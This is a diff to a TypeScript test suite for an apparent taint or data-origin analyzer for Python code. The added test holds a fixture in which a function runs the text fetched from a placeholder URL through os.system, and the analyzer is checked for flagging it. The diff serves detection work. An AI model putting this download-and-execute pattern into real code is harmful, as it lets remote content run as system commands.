@@ -76,6 +76,21 @@ function sentBy(source: string): readonly string[] {
   return callsOf(source).filter(({ name }) => name === 'requests.post').flatMap(({ roles }) => roles.data?.origins.map(({ source: from }) => from) ?? []);
 }
 
+test('what a function gave for a download it does not give to everybody', () => {
+  const commands = callsOf(`import os, requests
+def third(given):
+    os.system(keep(given))
+def second(given):
+    os.system(keep(requests.get("https://files.example/part").text))
+def first(given):
+    keep(given)
+def keep(text):
+    open("forged.log", "a").write("kept")
+    return text
+`).filter(({ name }) => name === 'os.system');
+  assert.deepEqual(commands.map(({ within, roles }) => [within, roles.command?.origins.some(({ source }) => source === 'network') === true]), [['second', true], ['third', false]]);
+});
+
 test('a form or message holds what it was filled with, and an open file what is in it', () => {
   const sent = (source: string): readonly string[] =>
     callsOf(`import aiohttp, discord, os\nasync def report(session, hook):\n${source}`).filter(({ does }) => does.includes('net.send')).flatMap(({ roles }) => roles.data?.origins.map(({ source: from, detail }) => `${from} ${detail ?? ''}`) ?? []);
